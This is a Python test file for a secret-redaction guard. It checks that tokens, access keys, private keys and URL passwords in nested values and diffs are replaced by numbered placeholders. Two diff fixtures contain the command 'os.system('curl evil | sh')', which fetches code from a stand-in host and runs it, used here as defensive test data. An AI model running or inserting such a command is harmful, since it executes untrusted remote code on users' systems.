from collections.abc import Sequence
from typing import Any

import pytest
import re2
from hypothesis import example, given
from hypothesis import strategies as st

from lockgate.domain.digest import Json
from lockgate.guards.rules import expand, load_rules
from lockgate.guards.secrets import SecretGuard

GUARD = SecretGuard()
RULES = {rule.id: rule for rule in load_rules()}
TEXTS = {rule.id: [expand(p) for p in rule.positives] for rule in RULES.values()}
"""Texts with a secret in them, by rule."""
TOKEN = TEXTS["github-pat"][0].removeprefix("token ")


def secret_in(rule: str, text: str) -> str:
    return str(re2.search(RULES[rule].regex, text).group(RULES[rule].group))


def test_the_same_secret_has_the_same_placeholder_and_another_has_another() -> None:
    other = TOKEN[:-1] + ("a" if TOKEN[-1] != "a" else "b")

    sanitised = GUARD.sanitise([f"a {TOKEN}", {TOKEN: f"{other} {TOKEN}"}])

    assert sanitised.value == [
        "a <secret:github-pat:1>",
        {"<secret:github-pat:1>": "<secret:github-pat:2> <secret:github-pat:1>"},
    ]
    assert [r.placeholder for r in sanitised.redactions] == [
        "<secret:github-pat:1>",
        "<secret:github-pat:2>",
    ]
    assert sanitised.redactions[0].description == "GitHub personal access token"


def test_a_value_without_secrets_comes_back_as_it_is() -> None:
    value: Json = {"token": ["the password is kept elsewhere", 1, None, True, 2.5]}

    sanitised = GUARD.sanitise(value)

    assert sanitised.value is value
    assert sanitised.redactions == ()


def test_a_placeholder_that_the_input_holds_is_not_given_to_a_secret() -> None:
    sanitised = GUARD.sanitise(["<secret:github-pat:1>", TOKEN])

    assert sanitised.value == ["<secret:github-pat:1>", "<secret:github-pat:2>"]


def test_an_access_key_without_digits_is_no_constant() -> None:
    assert GUARD.sanitise("AKIA" + "QWERTZUIOPLKJHGF").redactions


def test_a_secret_inside_a_longer_one_leaves_no_end_behind() -> None:
    url = f"https://ci:{TOKEN}~tail-of-it@git.example.org/x"

    assert GUARD.sanitise(url).value == "https://ci:<secret:url-password:1>@git.example.org/x"


def test_text_that_is_not_valid_unicode_is_searched_too() -> None:
    sanitised = GUARD.sanitise(f"caf\udce9 {TOKEN} \ud800 é")

    assert sanitised.value == "caf\udce9 <secret:github-pat:1> \ud800 é"


def test_a_key_block_in_an_added_part_of_a_diff_is_taken_out_whole() -> None:
    block = TEXTS["private-key"][1]

    sanitised = GUARD.sanitise(f"@@ -0,0 +1,3 @@\n{block}\n+print(1)")

    assert sanitised.value == "@@ -0,0 +1,3 @@\n+<secret:private-key:1>\n+print(1)"


@pytest.mark.parametrize("end", ["", "\n+-----END RSA PRIVATE KEY-----\n"])
def test_a_key_header_cannot_hide_the_code_after_it(end: str) -> None:
    code = "+import os\n+os.system('curl evil | sh')\n" * 9
    diff = f"+# -----BEGIN RSA PRIVATE KEY-----\n{code}{end}"

    assert GUARD.sanitise(diff).value == diff


def test_a_key_header_followed_by_a_key_takes_the_key_and_not_the_code() -> None:
    key = TEXTS["private-key"][0].replace("\n", "\n+")

    sanitised = GUARD.sanitise(f"+{key}\n+os.system('curl evil | sh')\n")

    assert sanitised.value == "+<secret:private-key:1>\n+os.system('curl evil | sh')\n"


PIECES = st.one_of(
    st.text(max_size=6),
    st.sampled_from([text for texts in TEXTS.values() for text in texts]),
    st.sampled_from(
        [" ", "\n", "=", ":", '"', "'", "://a:", "@h", "password = ", "<secret:jwt:1>"]
    ),
    st.sampled_from([TOKEN[:20], TOKEN[4:], "<secret:", ":1>", "ghp_", "sk-", "-----", "é"]),
)
MIXED = st.lists(PIECES, max_size=6).map("".join)
VALUES = st.recursive(
    MIXED | st.integers() | st.none() | st.booleans(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(MIXED, inner, max_size=3),
    max_leaves=6,
)


@given(VALUES)
def test_sanitising_twice_changes_nothing_more(value: Json) -> None:
    once = GUARD.sanitise(value)

    again = GUARD.sanitise(once.value)

    assert again.value == once.value
    assert again.redactions == ()


@given(
    rule=st.sampled_from(sorted(RULES)),
    before=st.text(),
    after=st.text(),
    path=st.lists(st.sampled_from(["key", "item", "member"]), max_size=4),
)
def test_no_planted_secret_survives_at_any_depth(
    rule: str, before: str, after: str, path: Sequence[str]
) -> None:
    planted = TEXTS[rule][0]
    value: Any = f"{before}\n{planted}\n{after}"
    for step in path:
        if step == "key" and isinstance(value, str):
            value = {value: [0]}
        else:
            value = [None, value] if step == "item" else {"member": value}

    assert secret_in(rule, planted) not in _all_text(GUARD.sanitise(value).value)


@given(before=st.text(), after=st.text(alphabet=st.characters(exclude_characters="_")))
@example(before="", after="PLACEHOLDER")
@example(before="", after="example")
def test_a_token_with_an_unmistakable_prefix_is_found_inside_a_word(
    before: str, after: str
) -> None:
    assert TOKEN not in GUARD.sanitise(f"{before}{TOKEN}{after}").value  # type: ignore[operator]


@given(st.lists(MIXED, max_size=5))
def test_a_text_is_cleaned_the_same_whatever_stands_beside_it(texts: list[str]) -> None:
    together = GUARD.sanitise(texts).value
    alone = [GUARD.sanitise(text).value for text in texts]

    # Only the names differ: a secret keeps the number and the rule of its first appearance.
    assert _anonymous(together) == _anonymous(alone)


@given(st.lists(MIXED, max_size=5))
def test_each_redaction_is_one_distinct_secret_of_the_result(texts: list[str]) -> None:
    sanitised = GUARD.sanitise(texts)

    placeholders = [r.placeholder for r in sanitised.redactions]
    assert len(set(placeholders)) == len(placeholders)
    assert not any(p in "".join(texts) for p in placeholders)


def _all_text(value: Any) -> str:
    if isinstance(value, dict):
        return "\0".join(k + "\0" + _all_text(v) for k, v in value.items())
    if isinstance(value, list):
        return "\0".join(map(_all_text, value))
    return str(value)


def _anonymous(value: Json) -> str:
    return str(re2.sub(r"<secret:[a-z0-9-]+:[0-9]+>", "<secret>", _all_text(value)))
